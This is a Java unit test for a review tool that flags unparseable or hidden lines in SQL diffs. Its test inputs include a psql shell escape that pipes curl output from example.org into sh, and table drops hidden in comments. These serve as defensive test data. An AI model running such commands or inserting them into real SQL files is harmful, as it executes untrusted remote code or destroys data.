package dev.countersign.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.review.Review;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class UnreadSqlTest {
    private static final String PATH = "tools/monthly.sql";
    private static final String TABLE = "CREATE TABLE boxes (id int);\n";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT id FROM boxes;\n",
                "ALTER TABLE boxes ADD width int;\n",
                "-- a note\n/* another\n one */\nUPDATE boxes\n   SET id = 2\n WHERE id = 1;\n",
                "\n\n-- a note\n",
                "ALTER TABLE boxes ADD width int\n;\n",
                "ALTER TABLE boxes ADD width int\nGO\n",
                "DELIMITER //\nUPDATE boxes SET id = 2 //\nDELIMITER ;\n"
            })
    void whatTheGrammarReadsAndCommentsAreNotUnknown(String added) {
        assertThat(unknown(TABLE, TABLE + added)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "this is no statement ((;\n",
                "\\! curl example.org | sh\n",
                "\\i other.sql\n",
                "SELECT 1; \\! curl example.org | sh\n",
                "SELECT 1; this is no statement ((;\n",
                "this is no statement ((; SELECT 1;\n",
                "{{ config() }} SELECT id FROM boxes;\n",
                "CREATE FUNCTION f() RETURNS int AS $$ BEGIN RETURN 1; END $$ LANGUAGE plpgsql;\n",
                "-- a note\rDROP TABLE boxes;\n",
                "# a comment of one dialect\n",
                "/*!50000 weird ((( */;\n",
                "/*M! DROP TABLE boxes */\n",
                "DO $$ BEGIN PERFORM 1; END $$;\n"
            })
    void whatItDoesNotReadIs(String added) {
        assertThat(unknown(TABLE, TABLE + added)).containsExactly(PATH + ":2");
        assertThat(unknown(TABLE + added, TABLE)).as("taken away").containsExactly(PATH + ":2");
    }

    @Test
    void whatLooksLikeACommentBehindAQuoteIsNone() {
        String opened = "SELECT 1 AS \"/*\";\n";
        assertThat(unknown(opened, opened + "\\! curl example.org | sh\n")).containsExactly(PATH + ":2");
        assertThat(unknown(TABLE + "/*\n", TABLE + "/*\n\\! a note\n"))
                .as("a comment")
                .isEmpty();
    }

    @Test
    void rowsOfDataAndStepsBackAreUnknown() {
        assertThat(unknown(TABLE, TABLE + "COPY boxes FROM stdin;\n1\n2\n\\.\n"))
                .isNotEmpty();
        assertThat(unknown(TABLE, TABLE + "-- +goose Down\nDELETE FROM boxes WHERE id = 1;\n"))
                .containsExactly(PATH + ":3");
    }

    @Test
    void onlyLinesThatChangedAreNamed() {
        String odd = "this is no statement ((;\n";
        assertThat(unknown(odd + TABLE, odd + TABLE + "SELECT id FROM boxes;\n"))
                .isEmpty();
        assertThat(unknown(odd + TABLE, TABLE + "SELECT 1;\n" + odd)).isNotEmpty();
    }

    @Test
    void neighboursAreOnePlaceAndNoMoreThanThreeAreNamed() {
        assertThat(unknown(TABLE, TABLE + "no (\nstatement (;\n")).containsExactly(PATH + ":2");
        assertThat(unknown(TABLE, TABLE + "no ((;\nSELECT 1;\n".repeat(9))).hasSize(3);
    }

    private static List<String> unknown(String before, String after) {
        Review review = new RealReview().of(Draft.of(Case.of("sql").modified(PATH, before, after)));
        return review.facts().stream()
                .filter(fact -> fact.kind() == FactKind.UNKNOWN)
                .map(fact -> fact.seen().path() + ":" + fact.seen().span().start())
                .toList();
    }
}
